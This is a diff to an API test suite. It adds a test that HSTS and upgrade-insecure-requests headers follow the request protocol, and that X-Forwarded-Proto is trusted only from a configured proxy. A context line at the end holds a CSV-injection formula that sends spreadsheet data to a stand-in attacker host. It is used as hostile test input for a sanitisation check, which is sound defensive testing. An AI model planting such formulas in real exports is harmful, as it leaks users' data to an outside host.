@@ -206,6 +206,23 @@ describe('slow bodies and the client address', () => {
     await request(app.baseUrl).get('/v1/topics').set('X-Forwarded-For', '203.0.113.8').expect(200);
   });
 
+  it('asks browsers for HTTPS only on what came over HTTPS, and believes X-Forwarded-Proto only from a trusted proxy', async () => {
+    const proxied = await startMain({ DATABASE_URL: t.database.url, TRUST_PROXY: '1' });
+    apps.push(proxied);
+    const headers = async (base: string, proto?: string) => {
+      const req = request(base).get('/v1/regions/330000');
+      if (proto) req.set('X-Forwarded-Proto', proto);
+      const response = await req.expect(200);
+      return { hsts: response.headers['strict-transport-security'] !== undefined, upgrade: /upgrade-insecure-requests/.test(response.headers['content-security-policy']) };
+    };
+    // The same URL each time: a cached answer must not carry another request's protocol.
+    expect(await headers(proxied.baseUrl, 'https')).toEqual({ hsts: true, upgrade: true });
+    expect(await headers(proxied.baseUrl)).toEqual({ hsts: false, upgrade: false });
+    expect(await headers(proxied.baseUrl, 'https')).toEqual({ hsts: true, upgrade: true });
+    // Without TRUST_PROXY the header is the client's word, and a plain-HTTP page must stay usable.
+    expect(await headers(t.http, 'https')).toEqual({ hsts: false, upgrade: false });
+  });
+
   it('writes CSV no spreadsheet would run as a formula, from observations, compare and rankings', async () => {
     const key = await createApiKey(t.database.url, 'trust-csv');
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
